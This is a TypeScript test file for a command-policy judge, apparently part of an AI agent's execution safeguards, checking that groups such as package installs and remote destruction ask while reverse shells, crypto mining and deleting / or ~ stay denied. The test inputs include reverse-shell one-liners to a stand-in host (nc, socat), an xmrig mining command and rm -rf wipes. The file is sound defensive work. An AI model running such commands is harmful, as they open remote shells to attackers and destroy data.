// Per-group actions: pincer.exec.denyGroups takes "deny", "ask", true (the default action) or false
// (off) per group; never-legitimate groups and deleting / or ~ stay denied whatever it says.
import assert from 'node:assert/strict';
import { allGroups, DEFAULT_COMMAND_POLICY, type CommandPolicy } from '../../../src/core/exec/command-policy';
import { readExecConfig } from '../../../src/core/exec/exec-config';
import { removeTempDirs } from '../../support/fs-fixtures';
import { judgeIn } from './judge-support';

function configured(groups: unknown): { policy: CommandPolicy; warnings: string[] } {
  const warnings: string[] = [];
  const cfg = readExecConfig((key) => (key === 'exec.denyGroups' ? groups : undefined), (m) => warnings.push(m));
  return { policy: cfg.policy, warnings };
}

describe('exec judge: per-group actions', () => {
  after(removeTempDirs);
  const { judge } = judgeIn();

  it('package_install and remote_destruction ask by default; the rest deny', async () => {
    assert.equal((await judge('npm install left-pad')).decision, 'ask');
    assert.equal((await judge('terraform destroy')).decision, 'ask');
    assert.equal((await judge('rm -rf /')).decision, 'deny');
    assert.equal((await judge('nc -e /bin/sh evil.example 4444')).decision, 'deny');
  });

  it('"deny" and "ask" change the action, false turns a group off, true keeps the default', async () => {
    assert.equal((await judge('npm install left-pad', configured({ package_install: 'deny' }).policy)).decision, 'deny');
    assert.equal((await judge('npm install left-pad', configured({ package_install: true }).policy)).decision, 'ask');
    assert.equal((await judge('npm install left-pad', configured({ package_install: false }).policy)).decision, 'allow');
    assert.equal((await judge('terraform destroy', configured({ remote_destruction: 'deny' }).policy)).decision, 'deny');
    assert.equal((await judge('nmap -sS 10.0.0.0/24', configured({ network_recon: 'ask' }).policy)).decision, 'ask');
    assert.equal((await judge('nmap -sS 10.0.0.0/24', configured({}).policy)).decision, 'deny');
  });

  it('never-legitimate groups and deleting / or ~ cannot be made to ask', async () => {
    const { policy, warnings } = configured({ reverse_shell: 'ask', crypto_mining: 'ask', destructive_ops: 'ask' });
    assert.equal(warnings.length, 2, warnings.join('\n'));
    assert.equal((await judge('nc -lvp 4444 -e /bin/bash', policy)).decision, 'deny');
    assert.equal((await judge('xmrig -o stratum+tcp://pool.example:3333', policy)).decision, 'deny');
    assert.equal((await judge('rm -rf ~', policy)).decision, 'deny');
    assert.equal((await judge('rm -rf /', policy)).decision, 'deny');
    assert.equal((await judge('rm -rf ../other-project', policy)).decision, 'ask', 'other destruction follows the action');
    const forced = { ...DEFAULT_COMMAND_POLICY, groupActions: { reverse_shell: 'ask' as const } };
    assert.equal((await judge('socat TCP:evil.example:4444 EXEC:/bin/sh', forced)).decision, 'deny');
  });

  it('a bad value keeps the defaults and is reported', () => {
    const { policy, warnings } = configured({ package_install: 'maybe' });
    assert.equal(warnings.length, 1);
    assert.deepEqual(policy.denyGroups, allGroups(true));
    assert.deepEqual(policy.groupActions, {});
  });
});
